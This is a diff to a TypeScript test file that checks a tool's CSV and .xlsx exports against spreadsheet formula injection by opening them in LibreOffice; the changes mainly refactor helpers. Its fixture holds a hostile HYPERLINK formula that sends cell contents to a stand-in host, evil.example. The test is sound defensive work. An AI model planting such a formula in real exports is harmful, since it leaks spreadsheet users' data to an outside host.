@@ -5,17 +5,15 @@
  * formula. The .xlsx exports keep such cells as strings too. Fails loudly (never skips) when
  * LibreOffice is missing; .ci/run installs it.
  */
-import { execFileSync } from "node:child_process";
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
+import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { basename, join } from "node:path";
-import { pathToFileURL } from "node:url";
 import * as XLSX from "@e965/xlsx";
 import { beforeAll, describe, expect, it } from "vitest";
 import { main, memoryIo } from "@gapmap/cli";
 import { fromCsv, inventorySchema, toCsv, toXlsx, type Inventory } from "@gapmap/core";
+import { convertWithLibreOffice, requireLibreOffice } from "../support/libreoffice";
 
-const LIBREOFFICE = ["/usr/bin/libreoffice", "/usr/bin/soffice"].find((p) => existsSync(p));
 const dir = mkdtempSync(join(tmpdir(), "gapmap-csv-injection-"));
 const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the data")';
 const HOSTILE_ID = "=1+1";
@@ -48,26 +46,17 @@ const hostile: Inventory = inventorySchema.parse({
 
 /** LibreOffice opens `file` (CSV, UTF-8, comma) as a user would and saves it as .xlsx. */
 function openInLibreOffice(file: string): XLSX.WorkSheet {
-  if (!LIBREOFFICE) throw new Error("LibreOffice is not installed.");
   const outDir = join(dir, `lo-${basename(file)}`);
   mkdirSync(outDir, { recursive: true });
-  execFileSync(
-    LIBREOFFICE,
-    [
-      "--headless",
-      "--norestore",
-      `-env:UserInstallation=${pathToFileURL(join(dir, "profile")).href}`,
-      // Comma, double quote, UTF-8, from line 1, quoted fields not forced to text, and token 13
-      // "evaluate formulas" on (LibreOffice's default in the import dialog).
-      "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
-      "--convert-to",
-      "xlsx",
-      "--outdir",
-      outDir,
-      file,
-    ],
-    { stdio: "pipe", timeout: 120_000 },
-  );
+  convertWithLibreOffice({
+    file,
+    target: "xlsx",
+    outDir,
+    workDir: dir,
+    // Comma, double quote, UTF-8, from line 1, quoted fields not forced to text, and token 13
+    // "evaluate formulas" on (LibreOffice's default in the import dialog).
+    inputFilter: "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
+  });
   const saved = readFileSync(join(outDir, basename(file).replace(/\.csv$/, ".xlsx")));
   const book = XLSX.read(saved, { type: "buffer", cellFormula: true });
   const sheet = book.Sheets[book.SheetNames[0] ?? ""];
@@ -83,38 +72,27 @@ function cellsWith(sheet: XLSX.WorkSheet, needle: string) {
     .filter((cell) => String(cell.v).includes(needle) || (cell.f ?? "").includes(needle));
 }
 
+/** `gapmap assess` on the hostile inventory, written to `out` (its format from the extension). */
+async function assessHostile(out: string): Promise<void> {
+  const inventoryJson = join(dir, `${basename(out)}.inventory.json`);
+  writeFileSync(inventoryJson, JSON.stringify(hostile));
+  const io = memoryIo();
+  const args = ["--needs", "migration-profile-core", "--inventory", inventoryJson, "--out", out];
+  const code = await main(["assess", ...args], io);
+  if (code !== 0) throw new Error(io.stderr());
+}
+
 let inventorySheet: XLSX.WorkSheet;
 let matrixSheet: XLSX.WorkSheet;
 
 beforeAll(async () => {
-  if (!LIBREOFFICE) {
-    throw new Error(
-      "LibreOffice is not installed: run `apt-get install libreoffice-calc-nogui` (.ci/run does).",
-    );
-  }
+  requireLibreOffice();
   const inventoryCsv = join(dir, "inventory.csv");
   writeFileSync(inventoryCsv, toCsv(hostile));
   inventorySheet = openInLibreOffice(inventoryCsv);
 
   const matrixCsv = join(dir, "matrix.csv");
-  const inventoryJson = join(dir, "inventory.json");
-  writeFileSync(inventoryJson, JSON.stringify(hostile));
-  const io = memoryIo();
-  const code = await main(
-    [
-      "assess",
-      "--needs",
-      "migration-profile-core",
-      "--inventory",
-      inventoryJson,
-      "--format",
-      "csv",
-      "--out",
-      matrixCsv,
-    ],
-    io,
-  );
-  if (code !== 0) throw new Error(io.stderr());
+  await assessHostile(matrixCsv);
   matrixSheet = openInLibreOffice(matrixCsv);
 }, 300_000);
 
@@ -132,7 +110,7 @@ describe("CSV exports opened in LibreOffice", () => {
     expect(cellsWith(inventorySheet, "HYPERLINK")).toHaveLength(2);
   });
 
-  it("gapmap assess --format csv: the hostile record ID is text, not a formula", () => {
+  it("gapmap assess to .csv: the hostile record ID is text, not a formula", () => {
     const cells = cellsWith(matrixSheet, "=1+1");
     expect(cells.length).toBeGreaterThan(0);
     for (const cell of cells) {
@@ -162,14 +140,7 @@ describe(".xlsx exports", () => {
 
   it("the gap-matrix workbook keeps the hostile record ID as a string", async () => {
     const out = join(dir, "matrix.xlsx");
-    const inventoryJson = join(dir, "inventory-x.json");
-    writeFileSync(inventoryJson, JSON.stringify(hostile));
-    const io = memoryIo();
-    const code = await main(
-      ["assess", "--needs", "migration-profile-core", "--inventory", inventoryJson, "--out", out],
-      io,
-    );
-    expect(code, io.stderr()).toBe(0);
+    await assessHostile(out);
     const workbook = XLSX.read(readFileSync(out), { type: "buffer", cellFormula: true });
     const cells = Object.values(workbook.Sheets).flatMap((sheet) => cellsWith(sheet, "=1+1"));
     expect(cells.length).toBeGreaterThan(0);
